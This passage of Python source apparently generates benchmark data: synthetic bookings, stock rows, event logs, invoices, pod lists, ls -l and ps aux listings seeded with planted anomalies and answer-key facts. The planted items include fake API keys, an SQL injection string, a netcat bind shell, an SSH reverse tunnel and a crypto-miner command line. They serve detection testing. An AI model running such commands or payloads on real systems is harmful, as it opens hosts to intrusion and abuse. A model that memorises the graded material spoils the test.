"""Lists of records, tables and logs."""

import json
import random
from collections import Counter
from dataclasses import replace
from datetime import date, datetime, timedelta

from bench.fidelity.planted import Fact, Parts, kind
from bench.fidelity.set_one.words import (
    CITIES,
    NOUNS,
    SERVICES,
    aws_key,
    before,
    email_of,
    found,
    gap,
    github_token,
    gone,
    hexes,
    ip_of,
    jwt,
    name_of,
    names_of,
    paragraph,
    person,
    reach,
    secret,
    shown_lines,
    shown_raw,
    spots,
    stripe_key,
    times,
    token,
    tops,
    total,
    twice,
    weighted,
    zulu,
)

RECORDS = ("rows", "records", "items", "entries", "lines", "elements")


def run_of(start: int, count: int, skip: int, lost: int, again: int, source: int) -> list[int]:
    """Consecutive numbers: `lost` are left out before place `skip`; place `again` repeats place `source`."""
    made: list[int] = []
    now = start
    for at in range(count):
        now += lost if at == skip else 0
        if at == again:
            made.append(made[source])
            continue
        made.append(now)
        now += 1
    return made


def retyped(
    names: list[str], field: str, value: str, pointer: str, record: str, kind_of: str = "string"
) -> Fact:
    """A value of another type than in all other records."""
    tells = [
        f'"{value}"',
        (field, kind_of),
        (value, kind_of),
        (value, "text"),
        (value, "type"),
        (field, "str "),
    ]
    return found("changed type", names, tells, [field, f"{field} {kind_of}"], pointer=pointer, record=record)


def laid(blocks: list[list[str]], before: int = 0) -> tuple[str, list[int]]:
    """The text of blocks of lines, and the line at which each begins."""
    starts, now = [], before + 1
    for block in blocks:
        starts.append(now)
        now += len(block)
    return "\n".join(line for block in blocks for line in block), starts


def aligned(table: list[list[str]], blanks: int = 3) -> list[str]:
    widths = [max(len(row[at]) for row in table) + blanks for at in range(len(table[0]))]
    return ["".join(cell.ljust(width) for cell, width in zip(row, widths)).rstrip() for row in table]


@kind("bookings-json", "rows")
def bookings(rng: random.Random) -> Parts:
    """A page of a REST API: an envelope with a list of like objects, indented by two."""
    n = rng.randint(270, 310)
    out, bare, typed, dup, hole, rare, noted, back, turned, zero = spots(rng, n, 10)
    back, turned = (back, turned) if back > turned else (turned, back)
    source = before(rng, dup, (out, bare, typed, dup, hole, rare, noted, back, turned, zero))
    ids = run_of(rng.randint(210_000, 700_000), n, hole, 3, dup, source)
    moments = times(rng, datetime(2024, 3, 4, 6, 10), n, 2700)
    items: list[dict] = []
    for at in range(n):
        guest = person(rng)
        nights, arrive = rng.choice((1, 2, 2, 3, 3, 4, 5, 7)), moments[at].date() + timedelta(
            days=rng.randint(5, 80)
        )
        items.append(
            {
                "id": f"BK-{ids[at]}",
                "created_at": zulu(moments[at]),
                "guest": {"name": guest, "email": email_of(guest), "adults": rng.choice((1, 2, 2, 2, 3, 4))},
                "property": (
                    f"{rng.choice(CITIES)} {rng.choice(('Garden', 'Harbour', 'Central', 'Park', 'Station'))}"
                    " Hotel"
                ),
                "room_type": weighted(rng, double=5, twin=3, single=2, suite=1),
                "check_in": str(arrive),
                "check_out": str(arrive + timedelta(days=nights)),
                "amount": round(nights * rng.uniform(70, 240), 2),
                "currency": "EUR",
                "status": weighted(rng, confirmed=60, pending=21, cancelled=15, completed=9),
                "channel": weighted(rng, web=50, app=30, agency=16, phone=8),
                "notes": rng.choice(
                    (None, None, None, "late arrival", "cot requested", "quiet room", "parking")
                ),
            }
        )
    items[out]["amount"] = round(rng.uniform(91_000, 140_000), 2)
    del items[bare]["guest"]["email"]
    items[typed]["amount"] = f"{items[typed]['amount']:.2f}"
    items[rare]["status"] = "chargeback"
    key = stripe_key(rng)
    items[noted]["notes"] = f"card refused, retried by hand with {key}"
    items[back]["created_at"] = zulu(
        moments[back] - min(timedelta(days=3, hours=5), (moments[back] - moments[0]) / 2)
    )
    items[turned]["check_out"] = str(date.fromisoformat(items[turned]["check_in"]) - timedelta(days=4))
    items[zero]["guest"]["adults"] = 0
    stated = n + rng.randint(11, 29)
    envelope = {
        "status": "ok",
        "page": 1,
        "total": stated,
        "generated_at": "2024-03-18T02:00:11Z",
        "bookings": items,
    }
    places = {at: f"/bookings/{at}" for at in range(n)}
    name = [item["id"] for item in items]
    dates = tuple(f'"{field}": "{items[turned][field]}"' for field in ("check_in", "check_out"))
    crossed = found(
        "contradiction",
        [name[turned]],
        [("check_out", items[turned]["check_out"]), (items[turned]["check_in"], items[turned]["check_out"])],
        ["check_out"],
        pointer=places[turned] + "/check_out",
        record=places[turned],
        common=True,
    )
    crossed = replace(crossed, evidence=(*crossed.evidence, dates))
    facts = [
        found(
            "outlier",
            [name[out]],
            [str(items[out]["amount"])],
            ["amount"],
            pointer=places[out] + "/amount",
            record=places[out],
        ),
        gone([name[bare]], "email", record=places[bare]),
        retyped([name[typed]], "amount", items[typed]["amount"], places[typed] + "/amount", places[typed]),
        twice(name[dup], "id", pointer=places[dup], both=(places[dup], places[source])),
        gap(
            name[hole - 1],
            name[hole],
            [f"BK-{ids[hole] - 3 + lost}" for lost in range(3)],
            "BK-",
            pointer=places[hole],
        ),
        found(
            "rare value",
            [name[rare]],
            ["chargeback"],
            ["status", "chargeback"],
            pointer=places[rare] + "/status",
            record=places[rare],
        ),
        secret(
            [name[noted]],
            ["sk_live", "stripe", "api key"],
            key,
            ["sk_live", "key"],
            pointer=places[noted] + "/notes",
            record=places[noted],
            context="retried by hand with",
        ),
        found(
            "time jump",
            [name[back]],
            [items[back]["created_at"][:16]],
            ["created_at"],
            pointer=places[back] + "/created_at",
            record=places[back],
        ),
        crossed,
        found(
            "outlier",
            [name[zero]],
            [("adults", "0")],
            ["adults", "adults 0"],
            pointer=places[zero] + "/guest/adults",
            record=places[zero],
            common=True,
        ),
        Fact(
            "contradiction",
            (("total", str(stated), str(n)), ("total", str(stated), "contradict")),
            ("total",),
            "/total",
        ),
        tops("status", [item["status"] for item in items]),
        tops("channel", [item["channel"] for item in items]),
        reach(items[0]["created_at"], items[-1]["created_at"], "created_at", days=True),
    ]
    return json.dumps(envelope, indent=2), shown_raw(envelope, facts)


@kind("sql-rows-json", "rows")
def sql_rows(rng: random.Random) -> Parts:
    """Rows of a query as the PostgreSQL MCP server prints them: a JSON list indented by two."""
    n = rng.randint(380, 430)
    low, costly, blank, dup, typed, rare, old, ended, cross = spots(rng, n, 9)
    source = before(rng, dup, (low, costly, blank, dup, typed, rare, old, ended, cross))
    skus = [
        f"{rng.choice('ABCDEFGH')}{rng.choice('KLMNPR')}-{number}"
        for number in rng.sample(range(10_000, 99_999), n)
    ]
    skus[dup] = skus[source]
    moments = times(rng, datetime(2024, 9, 2, 7, 5), n, 900)
    rows: list[dict] = []
    for at in range(n):
        made = (moments[at] - timedelta(days=rng.randint(200, 900))).date()
        rows.append(
            {
                "sku": skus[at],
                "warehouse": weighted(rng, Rotterdam=40, Leipzig=27, Lyon=18, Gdansk=11),
                "description": (
                    f"{rng.choice(('steel', 'brass', 'nylon', 'rubber', 'oak'))} {rng.choice(NOUNS)} "
                    f"{rng.choice(('set', 'kit', 'pair', 'unit'))}"
                ),
                "qty_on_hand": int(rng.gammavariate(3, 40)) + 1,
                "reorder_level": rng.choice((10, 20, 25, 40)),
                "unit_cost": round(rng.lognormvariate(2.4, 0.5), 2),
                "supplier": f"SUP-{rng.randint(11, 38)}",
                "category": weighted(rng, fasteners=30, seals=22, tools=18, fittings=14, paints=9),
                "introduced_on": str(made),
                "last_counted_at": zulu(moments[at]),
                "active": rng.random() < 0.93,
            }
        )
    rows[low]["qty_on_hand"] = -rng.randint(2100, 4800)
    rows[costly]["unit_cost"] = round(rng.uniform(18_000, 42_000), 2)
    rows[blank]["supplier"] = None
    rows[typed]["qty_on_hand"] = "n/a"
    rows[rare]["category"] = "hazmat"
    rows[old]["last_counted_at"] = "1970-01-01T00:00:00Z"
    rows[ended]["introduced_on"] = "2042-11-05"
    rows[cross]["description"] = "'; DROP TABLE stock; --"
    name = [row["sku"] for row in rows]
    rest = [row["last_counted_at"] for row in rows if not row["last_counted_at"].startswith("1970")]

    def at_row(
        what: str, at: int, tells: list, searches: list[str], field: str, common: bool = False
    ) -> Fact:
        return found(
            what, [name[at]], tells, searches, pointer=f"/{at}/{field}", record=f"/{at}", common=common
        )

    facts = [
        at_row(
            "outlier", low, [str(rows[low]["qty_on_hand"])], ["qty_on_hand", "negative qty"], "qty_on_hand"
        ),
        at_row("outlier", costly, [str(rows[costly]["unit_cost"])], ["unit_cost"], "unit_cost"),
        at_row(
            "null value",
            blank,
            [("supplier", "null"), ("supplier", "none"), ("supplier", "missing")],
            ["supplier", "null"],
            "supplier",
            True,
        ),
        at_row("changed type", typed, ["n/a"], ["qty_on_hand", "n/a"], "qty_on_hand"),
        at_row("rare value", rare, ["hazmat"], ["category", "hazardous"], "category"),
        at_row("time jump", old, ["1970-01-01"], ["last_counted_at", "1970"], "last_counted_at"),
        at_row("outlier", ended, ["2042-11-05"], ["introduced_on"], "introduced_on"),
        at_row("meaning", cross, ["DROP TABLE"], ["drop table", "injection"], "description"),
        twice(name[dup], "sku", pointer=f"/{dup}", both=(f"/{dup}", f"/{source}")),
        tops("warehouse", [row["warehouse"] for row in rows]),
        tops("category", [row["category"] for row in rows]),
        total(n, RECORDS, ["count", "rows"]),
        reach(min(rest), max(rest), "last_counted_at", days=True),
    ]
    return json.dumps(rows, indent=2), shown_raw(rows, facts)


@kind("events-jsonl", "rows")
def events(rng: random.Random) -> Parts:
    """JSON lines of product events, one object per line."""
    n = rng.randint(640, 720)
    bad, cut, dup, hole, slow, rare, bare, leak, jump, typed = spots(rng, n, 10)
    source = before(rng, dup, (bad, cut, dup, hole, slow, rare, bare, leak, jump, typed))
    seqs = run_of(rng.randint(40_000, 80_000), n, hole, 2, dup, source)
    moments = times(rng, datetime(2024, 6, 11, 4, 0), n, 21)
    moments = [
        moment + (timedelta(hours=2, minutes=47) if at >= jump else timedelta())
        for at, moment in enumerate(moments)
    ]
    rows: list[dict] = []
    for at in range(n):
        rows.append(
            {
                "seq": seqs[at],
                "ts": moments[at].isoformat(timespec="milliseconds") + "Z",
                "event": weighted(
                    rng,
                    page_view=50,
                    item_added=18,
                    search=16,
                    checkout_started=8,
                    login=8,
                    payment_succeeded=6,
                ),
                "user": f"u_{rng.randint(10_000, 99_999)}",
                "session": hexes(rng, 12),
                "ip": ip_of(rng, "81.2."),
                "app": {
                    "version": weighted(rng, **{"5.12.0": 6, "5.12.1": 3, "5.11.4": 1}),
                    "os": weighted(rng, ios=5, android=4),
                },
                "duration_ms": int(rng.lognormvariate(4.6, 0.5)) + 5,
            }
        )
    rows[bad] |= {"event": "payment_failed", "error": "card processor timeout: gateway 504"}
    rows[slow]["duration_ms"] = rng.randint(184_000, 290_000)
    rows[rare]["event"] = "account_deleted"
    del rows[bare]["session"]
    key = jwt(rng)
    rows[leak]["auth"] = f"Bearer {key}"
    rows[typed]["user"] = None
    lines = [json.dumps(row) for row in rows]
    lines[cut] = lines[cut][: rng.randint(90, 120)]

    def at_row(what: str, at: int, tells: list, searches: list[str], common: bool = False) -> Fact:
        return found(what, [f"{seqs[at]}"], tells, searches, line=at + 1, common=common)

    facts = [
        at_row("error", bad, ["payment_failed"], ["error", "failed"]),
        found(
            "malformed record",
            [str(seqs[cut])],
            [
                "malformed",
                "invalid",
                "truncated",
                "not json",
                "unparsed",
                "incomplete",
                "cut off",
                "broken",
                "unparseable",
            ],
            ["malformed", "invalid"],
            line=cut + 1,
        ),
        Fact(
            "duplicate",
            (*twice(str(seqs[dup]), "seq").evidence, (str(dup + 1), str(source + 1), str(seqs[dup]))),
            ("seq", "duplicate"),
            line=dup + 1,
        ),
        gap(
            str(seqs[hole - 1]),
            str(seqs[hole]),
            [str(seqs[hole] - 2), str(seqs[hole] - 1)],
            "seq",
            line=hole + 1,
        ),
        at_row("outlier", slow, [str(rows[slow]["duration_ms"])], ["duration_ms", "slow"]),
        at_row("rare value", rare, ["account_deleted"], ["event", "deleted"]),
        gone([str(seqs[bare])], "session", line=bare + 1),
        secret([str(seqs[leak])], ["bearer", "jwt", "auth"], key, ["Bearer", "token", "auth"], line=leak + 1),
        Fact(
            "time jump",
            (
                (rows[jump - 1]["ts"][:16], rows[jump]["ts"][:16]),
                *(
                    (rows[at]["ts"][:16], word)
                    for at in (jump - 1, jump)
                    for word in ("gap", "jump", "pause", "2:4", "2 h", "2h")
                ),
            ),
            ("ts", "gap"),
            line=jump + 1,
        ),
        at_row("changed type", typed, [("user", "null"), ("user", "none")], ["user null", "null"], True),
        tops("event", [row["event"] for row in rows]),
        total(n, (*RECORDS, "events"), ["count", "events"]),
        Fact(
            "time range",
            tuple(
                (rows[0]["ts"][:size].replace("T", joint), rows[-1]["ts"][:size].replace("T", joint))
                for size in (16, 19)
                for joint in "T "
            ),
            ("ts", "2024-06-11"),
        ),
    ]
    return "\n".join(lines) + "\n", facts


@kind("csv-export", "rows")
def csv_export(rng: random.Random) -> Parts:
    """A CSV export with a header line, as accounting programs write it."""
    n = rng.randint(760, 840)
    high, empty, dup, hole, shaped, wide, rare, minus, leak, odd = spots(rng, n, 10)
    source = before(rng, dup, (high, empty, dup, hole, shaped, wide, rare, minus, leak, odd))
    ids = run_of(rng.randint(20_000, 60_000), n, hole, 2, dup, source)
    days = times(rng, datetime(2023, 1, 3), n, 24_000)
    customers = [
        f"{rng.choice(CITIES)} {rng.choice(NOUNS).title()} {rng.choice(('GmbH', 'Ltd', 'SARL', 'AB'))}"
        for _ in range(90)
    ]
    rows = [
        [
            f"INV-{ids[at]}",
            days[at].strftime("%Y-%m-%d"),
            rng.choice(customers),
            f"C{rng.randint(1000, 1900)}",
            weighted(rng, DE=40, FR=26, NL=17, SE=11),
            f"{rng.lognormvariate(6.2, 0.5):.2f}",
            "EUR",
            weighted(rng, paid=66, open=22, overdue=10),
            weighted(rng, transfer=50, card=25, debit=14),
            person(rng),
            rng.choice(("", "", "", "partial delivery", "new address", "by mail")),
        ]
        for at in range(n)
    ]
    rows[high][5] = f"{rng.uniform(610_000, 940_000):.2f}"
    rows[empty][2] = ""
    rows[shaped][1] = days[shaped].strftime("%d.%m.%y")
    rows[wide].insert(3, "c/o Treuhand")
    rows[rare][7] = "written-off"
    rows[minus][5] = f"-{rng.uniform(7_000, 9_900):.2f}"
    key = f"https://portal:{token(rng, 12)}@erp.example.com/export"
    rows[leak][10] = f"see {key}"
    rows[odd][6] = "XAU"
    header = (
        "invoice_no,issued_on,customer,customer_no,country,net_amount,currency,status,payment,clerk,remark"
    )
    # one fact is about the shape of the row: it keeps its neighbours' look otherwise
    name = [row[0] for row in rows]

    def at_row(what: str, at: int, tells: list, searches: list[str], common: bool = False) -> Fact:
        return found(what, [name[at]], tells, searches, line=at + 2, common=common)

    facts = [
        at_row("outlier", high, [rows[high][5]], ["net_amount"]),
        at_row("missing field", empty, ["customer", f"{rows[empty][1]},,"], ["customer", ",,"], True),
        twice(name[dup], "invoice_no", line=dup + 2, both=(str(dup + 2), str(source + 2))),
        gap(
            name[hole - 1],
            name[hole],
            [f"INV-{ids[hole] - 2}", f"INV-{ids[hole] - 1}"],
            "INV-",
            line=hole + 2,
        ),
        at_row("changed type", shaped, [rows[shaped][1]], ["issued_on", "date format"]),
        at_row(
            "malformed record",
            wide,
            ["c/o Treuhand", "12 columns", "12 fields", "extra column", "12 cells", "12 values"],
            ["columns", "malformed"],
        ),
        at_row("rare value", rare, ["written-off"], ["status", "written"]),
        at_row("outlier", minus, [rows[minus][5]], ["negative", "net_amount", "-"]),
        secret(
            [name[leak]],
            ["portal:", "url", "password", "erp.example.com"],
            key,
            ["https://", "password"],
            line=leak + 2,
        ),
        at_row("rare value", odd, ["XAU"], ["currency"]),
        tops("status", [row[-4] for row in rows]),
        tops("country", [row[-7] for row in rows]),
        total(n, (*RECORDS, "invoices"), ["count"]),
        Fact("time range", ((rows[0][1], rows[-1][1]),), ("issued_on", rows[0][1][:7])),
    ]
    return header + "\n" + "\n".join(",".join(row) for row in rows) + "\n", facts


@kind("kubectl-get-pods", "rows")
def kubectl_pods(rng: random.Random) -> Parts:
    """`kubectl get pods -A -o wide`: columns aligned by blanks."""
    spaces = [
        "payments",
        "storefront",
        "logistics",
        "observability",
        "kube-system",
        "ingress",
        "data",
        "identity",
    ]
    table: list[list[str]] = []
    nodes = [
        f"ip-10-0-{rng.randint(10, 90)}-{rng.randint(10, 240)}.eu-west-1.compute.internal" for _ in range(18)
    ]
    for _ in range(rng.randint(520, 580)):
        done = rng.random() < 0.12
        age = f"{rng.randint(2, 28)}d" if rng.random() < 0.7 else f"{rng.randint(2, 40)}h"
        again = rng.choice((0, 0, 0, 0, 0, 0, 1, 1, 2))
        table.append(
            [
                rng.choices(spaces, (20, 18, 14, 9, 8, 5, 9, 7))[0],
                (
                    f"{rng.choice(SERVICES)}-{rng.choice(('api', 'worker', 'web', 'sync', 'cron'))}"
                    f"-{hexes(rng, 9)}-{token(rng, 5, 'bcdfghjklmnpqrstvwxz2456789')}"
                ),
                "0/1" if done else rng.choice(("1/1", "1/1", "2/2")),
                "Completed" if done else "Running",
                f"{again} ({rng.randint(3, 22)}h ago)" if again else "0",
                age,
                ip_of(rng, "10.1."),
                rng.choice(nodes),
                "<none>",
                "<none>",
            ]
        )
    table.sort(key=lambda row: (row[0], row[1]))
    n = len(table)
    places = spots(rng, n, 9)
    crash, pull, pending, many, unready, evicted, ending, alone, init = places
    many_restarts = rng.randint(1100, 2900)
    table[crash][2:5] = ["0/1", "CrashLoopBackOff", f"{rng.randint(31, 44)} (3m ago)"]
    table[pull][2:5] = ["0/1", "ImagePullBackOff", "0"]
    table[pending][2:5] = ["0/1", "Pending", "0"]
    table[pending][6:8] = ["<none>", "<none>"]
    table[many][2:5] = ["1/1", "Running", f"{many_restarts} (52s ago)"]
    table[unready][2:5] = ["1/2", "Running", "0"]
    table[evicted][2:5] = ["0/1", "Evicted", "0"]
    table[ending][2:6] = ["1/1", "Terminating", "0", "41d"]
    table[alone][7] = "legacy-metal-07.example.internal"
    table[init][2:5] = ["0/2", "Init:Error", "0"]
    rows = [
        [
            "NAMESPACE",
            "NAME",
            "READY",
            "STATUS",
            "RESTARTS",
            "AGE",
            "IP",
            "NODE",
            "NOMINATED NODE",
            "READINESS GATES",
        ],
        *table,
    ]

    def at_row(what: str, at: int, tells: list, searches: list[str], common: bool = False) -> Fact:
        return found(what, [table[at][1]], tells, searches, line=at + 2, common=common)

    facts = [
        at_row("error", crash, ["CrashLoopBackOff"], ["CrashLoopBackOff", "error"]),
        at_row("error", pull, ["ImagePullBackOff"], ["ImagePullBackOff", "BackOff"]),
        at_row("rare value", pending, ["Pending"], ["Pending"]),
        at_row("outlier", many, [str(many_restarts)], ["RESTARTS", "restarts"]),
        at_row("contradiction", unready, ["1/2"], ["1/2", "not ready"]),
        at_row("rare value", evicted, ["Evicted"], ["Evicted"]),
        at_row("rare value", ending, ["Terminating"], ["Terminating"]),
        at_row("rare value", alone, ["legacy-metal-07"], ["NODE"]),
        at_row("error", init, ["Init:Error"], ["Init", "Error"]),
        tops("STATUS", [row[3] for row in table], ["STATUS", "Running"]),
        tops("NAMESPACE", [row[0] for row in table], ["NAMESPACE", "namespaces"]),
        total(n, (*RECORDS, "pods"), ["pods", "count"]),
    ]
    return "\n".join(aligned(rows)) + "\n", facts


@kind("ls-l", "rows")
def ls_long(rng: random.Random) -> Parts:
    """`ls -l` of a directory of exports and scripts, sorted by name."""
    first = date(2023, 3, 1) + timedelta(days=rng.randint(0, 30))
    days = [first + timedelta(days=at) for at in range(rng.randint(560, 590))]
    lost = days.pop(rng.randint(120, 420))
    names = [f"export-{day}.csv.gz" for day in days]
    names += [f"summary-{day:%Y-%m-%d}.json" for day in days[::3]]
    names += [f"{name}.py" for name in names_of(rng, 90)] + [f"{name}.sql" for name in names_of(rng, 60)]
    names += [f"{name}.log" for name in names_of(rng, 70)]
    stray = [f"core.{rng.randint(11_000, 31_000)}", "id_rsa.bak", "latest.csv.gz"]
    names = sorted(names + stray)
    n = len(names)
    free = [at for at in range(n) if names[at] not in stray]
    plain = [free[at] for at in spots(rng, len(free), 6)]
    huge, void, open_, suid, owner, future = plain
    rows: list[list[str]] = []
    for name in names:
        day = date.fromisoformat(name[7:17]) if name.startswith("export-") else None
        day = day or (
            date.fromisoformat(name[8:18])
            if name.startswith("summary-")
            else date(2024, rng.randint(1, 10), rng.randint(1, 28))
        )
        shown = (
            f"{day:%b} {day.day:2d} {rng.randint(2, 3):02d}:{rng.randint(0, 59):02d}"
            if day > date(2024, 5, 20)
            else f"{day:%b} {day.day:2d}  {day.year}"
        )
        size = (
            int(rng.lognormvariate(13.2, 0.4))
            if name.endswith("gz")
            else int(rng.lognormvariate(8.6, 0.7)) + 300
        )
        script = name.endswith((".py", ".sql"))
        rows.append(
            [
                "-rwxr-xr-x" if name.endswith(".py") else "-rw-r--r--",
                "1",
                "deploy" if script else "etl",
                "deploy" if script else "etl",
                str(size),
                shown,
                name,
            ]
        )
    rows[huge][4] = str(rng.randint(41_000_000_000, 67_000_000_000))
    rows[void][4] = "0"
    rows[open_][0] = "-rwxrwxrwx"
    rows[suid][0] = "-rwsr-xr-x"
    rows[suid][2:4] = ["root", "root"]
    rows[owner][2:4] = ["mallory", "users"]
    rows[future][5] = "Jan  1  2038"
    at_core, at_key, at_link = (names.index(name) for name in stray)
    rows[at_core][0], rows[at_core][4] = "-rw-------", str(rng.randint(300_000_000, 400_000_000))
    rows[at_key][4] = "2602"
    rows[at_link][0], rows[at_link][4], rows[at_link][6] = (
        "lrwxrwxrwx",
        "31",
        "latest.csv.gz -> /mnt/old-nas/export-2019.csv.gz",
    )
    wide = [max(len(row[at]) for row in rows) for at in range(6)]
    lines = [
        " ".join(
            (
                row[0],
                row[1],
                row[2].ljust(wide[2]),
                row[3].ljust(wide[3]),
                row[4].rjust(wide[4]),
                row[5].rjust(wide[5]),
                row[6],
            )
        )
        for row in rows
    ]

    def at_row(what: str, at: int, tells: list, searches: list[str], common: bool = False) -> Fact:
        return found(what, [names[at]], tells, searches, line=at + 2, common=common)

    ends = Counter(name.rsplit(".", 1)[-1] for name in names)
    facts = [
        at_row(
            "outlier",
            huge,
            [rows[huge][4], f"{int(rows[huge][4]) // 10**9} GB", f"{int(rows[huge][4]) / 2**30:.0f}G"],
            ["size", "GB"],
        ),
        at_row("outlier", void, [" 0 ", "empty", "zero", "0 bytes"], [" 0 ", "empty"], True),
        at_row("meaning", open_, ["rwxrwxrwx", "world-writable", "777"], ["rwxrwxrwx", "rwx"]),
        at_row("meaning", suid, ["rws", "setuid", "4755"], ["rws", "setuid", "root"]),
        at_row("rare value", owner, ["mallory"], ["owner", "etl"]),
        at_row("time jump", future, ["2038"], ["future", "date"]),
        found(
            "meaning", [stray[0]], [rows[at_core][4], "core dump", "-rw-------"], ["core"], line=at_core + 2
        ),
        found(
            "secret",
            ["id_rsa.bak"],
            ["-rw-r--r--", "644", "key", "secret", str(at_key + 2)],
            ["id_rsa", "key"],
            line=at_key + 2,
        ),
        found(
            "meaning", ["latest.csv.gz"], ["/mnt/old-nas", "export-2019"], ["latest", "->"], line=at_link + 2
        ),
        gap(
            f"export-{lost - timedelta(days=1)}",
            f"export-{lost + timedelta(days=1)}",
            [f"export-{lost}", str(lost) + " missing"],
            "export-",
            line=names.index(f"export-{lost + timedelta(days=1)}.csv.gz") + 2,
        ),
        total(n, ("files", *RECORDS), ["count", "total"]),
        Fact(
            "counts by extension",
            (
                (".gz", str(ends["gz"])),
                ("csv.gz", str(ends["gz"])),
                ("csv.gz", str(len(days))),
                ("export-", str(len(days))),
            ),
            ("export-", ".csv.gz"),
        ),
        Fact(
            "time range",
            ((f"export-{days[0]}", f"{days[-1]}"), (str(days[0]), str(days[-1]))),
            ("export-", "first export"),
        ),
    ]
    kilo = sum(-(-int(row[4]) // 4096) * 4 for row in rows)
    return f"total {kilo}\n" + "\n".join(lines) + "\n", facts


@kind("ps-aux", "rows")
def ps_aux(rng: random.Random) -> Parts:
    """`ps aux`: one line per process, right-aligned numbers."""
    users = (("www-data", 34), ("postgres", 22), ("root", 19), ("appuser", 17), ("redis", 6))
    n = rng.randint(560, 620)
    rows: list[list[str]] = []
    pid = 1
    for at in range(n):
        pid += rng.randint(2, 90)
        user = rng.choices([one for one, _ in users], [many for _, many in users])[0]
        command = {
            "www-data": (
                f"nginx: worker process --config=/etc/nginx/sites/{rng.choice(SERVICES)}.conf"
                f" --zone={rng.choice(NOUNS)}"
            ),
            "postgres": (
                f"postgres: main: {rng.choice(SERVICES)}_rw {rng.choice(SERVICES)}"
                f" {ip_of(rng)}({rng.randint(32768, 60999)})"
                f" {rng.choice(('idle', 'idle', 'SELECT', 'COMMIT'))}"
            ),
            "root": (
                f"[kworker/{rng.randint(0, 7)}:{rng.randint(0, 3)}"
                f"-{rng.choice(('events', 'mm_percpu_wq', 'cgroup', 'rcu_gp'))}]"
            ),
            "appuser": (
                f"/usr/bin/python3 -m {rng.choice(SERVICES)}.{rng.choice(('worker', 'consumer', 'server'))}"
                f" --queue {rng.choice(NOUNS)} --concurrency {rng.choice((2, 4, 8))}"
            ),
            "redis": f"/usr/bin/redis-server 127.0.0.1:{rng.randint(6379, 6420)}",
        }[user]
        memory = 0.0 if user == "root" else round(rng.lognormvariate(-1.2, 0.5), 1)
        rows.append(
            [
                user,
                str(pid),
                f"{rng.choice((0.0, 0.0, 0.1, 0.2, 0.4, 1.1)):.1f}",
                f"{memory:.1f}",
                "0" if user == "root" else str(rng.randint(180_000, 920_000)),
                str(int(memory * 164_000)),
                "?",
                "I" if user == "root" else rng.choice(("S", "Ss", "Sl", "S")),
                weighted(rng, Nov04=5, Nov09=3, **{"06:12": 2}),
                f"{rng.randint(0, 3)}:{rng.randint(0, 59):02d}",
                command,
            ]
        )
    cpu, mem, zombie, stuck, miner, leak, strange, hours, shell = spots(rng, n, 9)
    key = token(rng, 14)
    plain = {"cpu": cpu, "mem": mem, "hours": hours}
    for at in plain.values():
        rows[at][:1] = ["appuser"]
        rows[at][4:8] = ["812044", "92180", "?", "Sl"]
        rows[at][
            10
        ] = f"/usr/bin/python3 -m {rng.choice(SERVICES)}.worker --queue {rng.choice(NOUNS)} --concurrency 4"
    rows[cpu][2] = f"{rng.uniform(380, 760):.1f}"
    rows[cpu][7] = "Rl"
    rows[mem][3], rows[mem][5] = f"{rng.uniform(41, 58):.1f}", str(rng.randint(7_100_000, 9_400_000))
    rows[zombie][2:11] = ["0.0", "0.0", "0", "0", "?", "Z", "Nov09", "0:00", "[backup-agent] <defunct>"]
    for at in (stuck, leak, strange, shell):
        rows[at][3:8] = [
            "0.3",
            str(rng.randint(200_000, 400_000)),
            str(rng.randint(40_000, 60_000)),
            "?",
            "S",
        ]
    rows[stuck][7], rows[stuck][10] = "D", "rsync -a /mnt/nfs-archive/ /var/backups/archive"
    rows[miner] = [
        "www-data",
        rows[miner][1],
        "97.4",
        "2.1",
        "2410332",
        "344100",
        "?",
        "Ssl",
        "03:41",
        "612:08",
        "/tmp/.x11/kdevtmpfsi -o pool.minexmr.example:4444",
    ]
    rows[leak][0], rows[leak][10] = "appuser", f"mysqldump -h db-7 -u backup --password={key} --all-databases"
    rows[strange][0], rows[strange][10] = "intern2", "ssh -N -R 2222:localhost:22 203.0.113.77"
    rows[hours][9] = f"{rng.randint(5100, 9900)}:{rng.randint(10, 59)}"
    rows[shell][0], rows[shell][6], rows[shell][10] = "root", "pts/4", "nc -lvp 31337 -e /bin/bash"
    lines = ["USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND"]
    for user, number, load, share, size, resident, tty, state, start, spent, command in rows:
        lines.append(
            f"{user:<8} {number:>7} {load:>4} {share:>4} {size:>6} {resident:>5} {tty:<8} {state:<4}"
            f" {start:>5} {spent:>6} {command}"
        )

    def at_row(what: str, at: int, tells: list, searches: list[str]) -> Fact:
        return found(what, [rows[at][1]], tells, searches, line=at + 2)

    facts = [
        at_row("outlier", cpu, [rows[cpu][2]], ["%CPU", "cpu"]),
        at_row("outlier", mem, [rows[mem][3], rows[mem][5]], ["%MEM", "memory"]),
        at_row("rare value", zombie, ["defunct", "zombie"], ["defunct", "zombie", " Z "]),
        at_row("rare value", stuck, ["nfs-archive"], [" D ", "rsync"]),
        at_row("meaning", miner, ["kdevtmpfsi"], ["/tmp/", "miner"]),
        secret([rows[leak][1]], ["mysqldump", "--password"], key, ["password"], line=leak + 2),
        at_row("rare value", strange, ["intern2", "203.0.113.77"], ["ssh", "USER"]),
        at_row("outlier", hours, [rows[hours][9]], ["TIME"]),
        at_row("meaning", shell, ["31337"], ["/bin/bash", "nc "]),
        tops("USER", [row[0] for row in rows], ["USER", "www-data"]),
        total(n, ("processes", *RECORDS), ["count", "processes"]),
    ]
    return "\n".join(lines) + "\n", facts


@kind("markdown-table", "rows")
def markdown_table(rng: random.Random) -> Parts:
    """A Markdown page with one large pipe table, as wiki and BI tools give it."""
    n = rng.randint(520, 570)
    services = sorted(names_of(rng, n, "-", 3))
    teams = ["Orion", "Harbor", "Kestrel", "Maple", "Quartz"]
    rows = []
    for name in services:
        day = date(2024, 6, 1) + timedelta(days=int(rng.triangular(0, 150, 120)))
        rows.append(
            [
                name,
                rng.choices(teams, (34, 25, 18, 12, 7))[0],
                weighted(rng, **{"2": 5, "3": 4, "1": 1}),
                weighted(rng, Go=42, Java=28, Python=20, Kotlin=11),
                weighted(rng, **{"eu-west-1": 6, "us-east-1": 4}),
                f"{rng.choice((99.5, 99.9, 99.9, 99.95))}",
                str(int(rng.lognormvariate(4.4, 0.4))),
                str(day),
                email_of(person(rng)),
                weighted(rng, live=80, pilot=14, sunset=9),
            ]
        )
    slow, blank, dup, old, odd, rare, lang, region, leak = spots(rng, n, 9)
    source = rng.choice(
        [
            at
            for at in range(10, n - 10)
            if abs(at - dup) > 40 and at not in (slow, blank, dup, old, odd, rare, lang, region, leak)
        ]
    )
